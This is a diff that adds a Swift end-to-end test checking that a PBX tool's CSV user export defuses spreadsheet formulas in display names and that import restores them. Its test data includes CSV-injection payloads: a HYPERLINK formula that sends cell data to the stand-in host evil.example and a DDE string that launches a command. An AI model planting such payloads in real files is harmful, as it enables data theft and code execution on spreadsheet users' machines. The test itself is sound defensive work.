@@ -172,3 +172,32 @@ extension ImportExportEndToEndTests {
         XCTAssertFalse(tsv.stdout.unicodeScalars.contains("\r"), "TSV escapes CR")
     }
 }
+
+extension ImportExportEndToEndTests {
+    /// A display name a spreadsheet would run is written with a leading apostrophe;
+    /// `users import` takes it off again, so export → import stays exact.
+    func testFormulasAreNeutralisedAndImportUndoesIt() throws {
+        let names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\tTab", "'=quoted by the server",
+                     "+14155550100", "-5"]
+        let source = try sandbox(withDisplayNames: names)
+        let target = try SandboxProcess(arguments: ["--users", "0"])
+        defer {
+            source.stop()
+            target.stop()
+        }
+        let export = PBX.run(["users", "export", "-o", "csv", "--fields", "name,display_name,email,role,extension_number"], env: source.env())
+        XCTAssertEqual(export.code, 0, export.stderr)
+        let lines = export.stdout.components(separatedBy: "\n")
+        XCTAssertTrue(lines.contains("odd.0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",odd0@example.com,StandardUser,7000"), export.stdout)
+        XCTAssertTrue(lines.contains("odd.1,'+SUM(1),odd1@example.com,StandardUser,7001"), export.stdout)
+        XCTAssertTrue(lines.contains("odd.3,'@SUM(A1),odd3@example.com,StandardUser,7003"), export.stdout)
+        XCTAssertTrue(lines.contains("odd.5,''=quoted by the server,odd5@example.com,StandardUser,7005"), export.stdout)
+        XCTAssertTrue(lines.contains("odd.6,+14155550100,odd6@example.com,StandardUser,7006"), "a phone number stays a number: \(export.stdout)")
+        XCTAssertTrue(lines.contains("odd.7,-5,odd7@example.com,StandardUser,7007"), export.stdout)
+        let file = write(export.stdout, "formulas.csv")
+        let imported = PBX.run(["users", "import", file, "--generate-secrets"], env: target.env())
+        XCTAssertEqual(imported.code, 0, imported.stderr)
+        XCTAssertEqual(displayNames(target), displayNames(source))
+        XCTAssertEqual(displayNames(target)["odd.0"], names[0].unicodeScalars.map(\.value))
+    }
+}
